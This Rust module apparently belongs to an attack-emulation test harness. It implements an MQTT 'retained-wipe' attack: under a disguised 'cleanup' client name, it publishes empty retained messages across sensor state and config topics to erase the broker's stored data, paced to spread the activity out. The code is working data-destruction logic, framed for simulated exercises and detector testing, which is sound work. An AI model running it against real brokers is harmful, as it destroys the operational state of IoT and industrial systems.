//! Retained wipe: empty retained messages over many topics, so that whoever comes later finds nothing.

use super::{Attack, Needs, technique};
use crate::net::mqtt::{Options, Version};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "retained-wipe",
    about: "erases what the broker keeps for those who come later",
    technique: technique("T0809"),
    acceptable: &["T0855", "T1692.001"],
    grade: "A",
    kind: "fast",
    proto: "mqtt",
    variants: &["state", "everything"],
    needs: Needs::Sockets,
    seconds: [900, 30, 3],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let sensors = stage.sensors();
    let mut topics: Vec<String> = sensors.iter().map(|sensor| sensor.state.clone()).collect();
    if stage.is("everything") {
        topics.extend(sensors.iter().map(|sensor| sensor.topic.clone()));
        topics.extend(sensors.iter().map(|sensor| format!("{}/config", sensor.commands)));
    }
    let name = format!("cleanup-{:04x}", stage.rng.word());
    let mut client = intruder.mqtt(Options::new(Version::V311, name)).await?;
    let pace = stage.by(900.0, 30.0, 3.0) / topics.len() as f64;
    for topic in topics {
        client.publish(&topic, b"", 1, true).await?;
        stage.changed(format!("{topic} erased"));
        client.rest(pace * stage.rng.within(0.8, 1.2)).await?;
    }
    client.leave().await;
    Ok(())
}
